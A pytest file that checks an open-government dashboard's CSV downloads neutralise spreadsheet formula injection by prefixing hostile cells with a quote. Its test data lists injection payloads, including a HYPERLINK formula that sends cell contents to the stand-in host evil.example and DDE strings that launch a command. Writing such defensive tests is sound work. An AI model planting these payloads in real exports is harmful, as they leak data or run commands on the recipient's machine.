"""CSV formula injection: a cell a spreadsheet would run as a formula leaves both download routes neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from helpers import make_snapshot
from dashboard import downloads

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_leading_quote(cell):
    assert downloads.neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.5", "+3", "-1e5", "Open data", "", "2024-06-01", "CA-NAP4-C01"])
def test_plain_values_and_numbers_stay_as_they_are(cell):
    assert downloads.neutralise_cell(cell) == cell
    assert downloads.neutralise_cell(-3) == -3 and downloads.neutralise_cell(2.5) == 2.5


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    data_dir = tmp_path_factory.mktemp("hostile-csv")
    snap = make_snapshot(data_dir, {
        "jurisdictions": [{"jurisdiction_id": "xx", "name_en": HOSTILE[0], "name_fr": HOSTILE[1], "level": "local"}],
        "commitments": [{"commitment_id": "X1", "jurisdiction_id": "xx", "cycle": "2018-2020", "cycle_start": 2018,
                         "cycle_end": 2020, "title_en": HOSTILE[2], "title_fr": HOSTILE[3], "progress": "complete",
                         "progress_rank": 3}],
    })
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("OGDASH_DATA_DIR", str(data_dir))
        from dashboard.app import create_app

        yield create_app(data_dir).server.test_client(), snap


def _cells(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_whole_table_download_neutralises_formula_cells(hostile_app):
    client, snap = hostile_app
    cells = _cells(client.get(f"/download/{snap.id}/commitments.csv"))
    assert "'" + HOSTILE[2] in cells and "'" + HOSTILE[3] in cells
    assert not [c for c in cells if c.startswith(downloads.FORMULA_TRIGGERS) and c not in ("-", "")]
    cells = _cells(client.get(f"/download/{snap.id}/jurisdictions.csv"))
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells


def test_chart_download_neutralises_formula_cells(hostile_app):
    client, _snap = hostile_app
    cells = _cells(client.get("/download/view/commitments-heatmap.csv"))
    assert "'" + HOSTILE[0] in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
